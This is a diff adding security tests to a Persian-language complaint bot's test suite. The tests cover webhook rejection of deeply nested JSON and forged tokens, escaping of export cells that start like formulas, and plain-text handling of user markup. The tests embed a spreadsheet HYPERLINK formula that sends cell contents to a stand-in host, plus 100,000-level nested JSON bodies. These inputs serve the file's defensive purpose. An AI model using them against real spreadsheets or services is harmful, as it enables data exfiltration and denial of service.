@@ -4,16 +4,23 @@ log line or staff card: the masking table, the log records, and the real bot in 
 
 from __future__ import annotations
 
+import ast
+import csv
+import io
+import json
 import logging
+import zipfile
+from pathlib import Path
 from typing import Any
 
+import aiohttp
 import pytest
 from sqlalchemy import select
 
 from bot.messenger import MessengerUser
 from models import FaqQuery
 from models.tickets import TicketMessage
-from services import privacy
+from services import exports, privacy
 from services.persian import to_fa_digits
 from services.privacy import mask_personal_numbers
 from tests.complaints.complaints_helpers import file_ticket
@@ -224,3 +231,91 @@ async def test_a_card_number_in_a_complaint_is_masked_in_the_database_and_on_the
     relayed = hamdel.staff_chat.last
     assert relayed is not None and "۰۹۱۲ ۱۲۳ ۴۵۶۷" not in relayed["text"] and SHEBA not in relayed["text"]
     assert "\u200e**** *** ۴۵۶۷" in relayed["text"]
+
+
+# --------------------------------------------------------------------------------------------
+# The webhook's own checks
+
+
+async def test_the_webhook_refuses_deeply_nested_json_and_forged_requests(hamdel_webhook: Harness) -> None:
+    hook = hamdel_webhook.messenger.calls("setWebhook")[-1].params
+    headers = {
+        "X-Telegram-Bot-Api-Secret-Token": hook.get("secret_token", ""),
+        "Content-Type": "application/json",
+    }
+    deep = '{"update_id": 5, "message": ' + '{"a": ' * 100_000 + "1" + "}" * 100_000 + "}"
+    nested = {"update_id": 6, "message": {"chat": {"id": 1}}}
+    inner: dict[str, Any] = nested["message"]
+    for _ in range(200):
+        inner["x"] = {}
+        inner = inner["x"]
+    async with aiohttp.ClientSession() as client:
+        for body in (deep, json.dumps(nested), "[" * 50_000 + "]" * 50_000, "not json"):
+            response = await client.post(hook["url"], data=body, headers=headers)
+            assert response.status == 400, body[:40]
+        if hamdel_webhook.app.profile.webhook_secret_header:
+            forged = await client.post(
+                hook["url"], json={"update_id": 7}, headers={"X-Telegram-Bot-Api-Secret-Token": "x"}
+            )
+            assert forged.status == 401
+        guessed = await client.post(hook["url"].rsplit("/", 1)[0] + "/" + "0" * 32, json={"update_id": 8})
+        assert guessed.status == 404
+    # The bot still answers.
+    user = hamdel_webhook.user()
+    await user.send("/start")
+    assert (await user.next_message())["text"].startswith("سلام")
+
+
+# --------------------------------------------------------------------------------------------
+# Held today, kept holding: spreadsheet formulas, parse modes
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_cells_starting_like_a_formula_are_escaped(start: str) -> None:
+    value = f'{start}HYPERLINK("http://x.example/?"&A1)'
+    table = exports.ExportTable(["description"], [(value,), ("عادی",)])
+    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["'" + value] and rows[2] == ["عادی"]
+    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(table))) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # a string, never a formula
+
+
+SOURCES = [
+    path
+    for folder in ("bot", "handlers", "services")
+    for path in sorted((Path(__file__).resolve().parent.parent / folder).glob("*.py"))
+]
+
+
+def test_no_parse_mode_anywhere_in_the_bot() -> None:
+    """Texts are sent plain: a person's text can never be read as markup (Bale ignores it anyway,
+    Telegram would fail or format). No call passes parse_mode, and the bot's default has none."""
+    offenders = []
+    for path in SOURCES:
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call):
+                names = [k.arg for k in node.keywords]
+                if "parse_mode" in names or any(
+                    isinstance(a, ast.Constant) and a.value in ("HTML", "MarkdownV2", "Markdown")
+                    for a in node.args
+                ):
+                    offenders.append(f"{path.name}:{node.lineno}")
+            if isinstance(node, ast.Attribute) and node.attr == "ParseMode":
+                offenders.append(f"{path.name}:{node.lineno}")
+    assert len(SOURCES) > 50 and offenders == []
+
+
+async def test_the_bots_default_parse_mode_is_none_and_user_markup_stays_text(hamdel: Harness) -> None:
+    assert hamdel.app.bot.default.parse_mode is None
+    user = hamdel.user()
+    reply = await say(hamdel, user, "<b>سلام</b> *بیمه* _تکمیلی_ [x](http://x.example)")
+    assert reply.get("entities") in (None, [])
+    button = next(b for b in user.buttons() if "کارشناس" in b)
+    await user.press(button)
+    card = await hamdel.staff_chat.next_message()
+    assert "<b>سلام</b> *بیمه* _تکمیلی_ [x](http://x.example)" in card["text"]
+    assert not card.get("entities")
+    for request in hamdel.messenger.requests:
+        assert "parse_mode" not in request.params, request.method
